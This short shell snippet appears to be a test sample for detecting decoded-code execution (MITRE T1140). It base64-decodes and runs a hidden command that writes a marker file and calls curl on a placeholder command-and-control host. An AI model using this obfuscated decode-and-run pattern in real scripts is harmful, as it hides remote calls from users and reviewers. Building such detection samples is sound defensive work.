# expect: decoded-code-run | source: T1140
undo() { echo "$1" | base64 -d; }
run() { sh -c "$(undo "$1")"; }
run ZWNobyBsb29rID4gL3RtcC9sb29rLmZpcmVkOyBjdXJsIC1zIGh0dHA6Ly9jMi5leGFtcGxlLmludmFsaWQv
